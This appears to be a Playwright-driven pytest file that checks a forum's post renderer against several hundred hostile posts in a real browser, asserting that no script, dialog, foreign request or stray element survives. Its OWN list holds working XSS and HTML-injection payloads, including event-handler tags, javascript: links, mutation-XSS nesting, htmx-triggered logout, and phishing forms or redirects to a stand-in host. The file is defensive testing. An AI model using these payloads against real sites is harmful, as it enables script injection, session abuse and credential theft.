"""A topic of several hundred hostile posts in a real browser: no script, no dialog, no foreign request,
nothing that the policy had to stop, and the page's own furniture stands where it stood."""

import pytest

from goodreadings.lib.markup import Refused, render
from tests.lib.hostile import texts
from tests.make import make_posts

pytestmark = pytest.mark.one_database

POSTS = 400
OWN = [
    "<script>window.broken = 1; alert(1)</script>",
    "<img src=x onerror='window.broken=1;alert(1)'>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body { display: none } @import url(https://evil.example/x.css);</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/x.png)'>over it all</p>",
    "<b hx-get='https://evil.example/' hx-trigger=load hx-on::load='window.broken=1'>x</b>",
    "<div data-hx-get=/accounts/logout/ data-hx-trigger=load>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "![x](https://evil.example/pixel.png) ![x](/accounts/logout/) ![x](//evil.example/x.png)",
    "[x](javascript:alert(1)) [x](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlData{x=y}{z}$",
    "$$\\def\\a{\\a\\a}\\a$$ $\\rule{99999em}{99999em}$ $\\url{javascript:alert(1)}$ $\\class{post}{x}$",
    "```js\" onload=alert(1) class=\"\n</code></pre><script>alert(1)</script>\n```",
    "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    "<video autoplay src=https://evil.example/x.mp4 onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<a href=/x ping=https://evil.example/ target=_blank onclick=alert(1)>x</a>",
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</article></main></body></html><script>alert(1)</script>",
    "<p id=main class='post like' name=body>x</p><b id=md-fn-1>x</b>",
]  # fmt: skip
WATCH = """
window.broken = 0; window.dialogs = 0; window.violations = []
for (const name of ["alert", "confirm", "prompt", "open"]) window[name] = () => { window.dialogs += 1 }
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`))
"""
FOUND = """() => ({
  broken: window.broken, dialogs: window.dialogs, violations: window.violations, place: location.href,
  posts: document.querySelectorAll("article.post").length,
  strays: [...document.querySelectorAll("article.post .words")].flatMap((words) =>
    [...words.querySelectorAll("script, style, iframe, object, embed, form, link, meta, base, svg:not(.icon), video, audio, template")])
    .map((one) => one.outerHTML.slice(0, 99)),
  handlers: [...document.querySelectorAll("main *")].filter((one) =>
    [...one.attributes].some((attribute) => attribute.name.startsWith("on"))).map((one) => one.outerHTML.slice(0, 99)),
})"""


def accepted(wanted: int) -> list[str]:
    bodies = []
    for text in [*OWN, *texts(2 * wanted)]:
        try:
            render(text)
        except Refused:
            continue
        if text.strip() and "\0" not in text:
            bodies.append(text.encode("utf-8", "ignore").decode())
        if len(bodies) == wanted:
            break
    return bodies


@pytest.mark.parametrize("view", ["", "&view=threaded"], ids=["in order", "by conversation"])
def test_hostile_posts_do_nothing_in_a_browser(open_page, topic, ann, view):
    bodies = accepted(POSTS if not view else 60)
    make_posts(topic, ann, bodies)
    page = open_page()
    page.on("dialog", lambda dialog: page.faults.append(f"dialog: {dialog.message}") or dialog.dismiss())
    page.add_init_script(WATCH)
    for number in range(1, (len(bodies) + 19) // 20 + 1):
        page.goto(f"/2021/?page={number}{view}")
        page.wait_for_load_state("networkidle")
        found = page.evaluate(FOUND)
        assert found["place"].endswith(f"/2021/?page={number}{view}"), found
        assert found["posts"] >= 1, found
        assert (found["broken"], found["dialogs"]) == (0, 0), found
        assert found["violations"] == [], found
        assert found["strays"] == [], found
        assert found["handlers"] == [], found
    assert page.faults == []
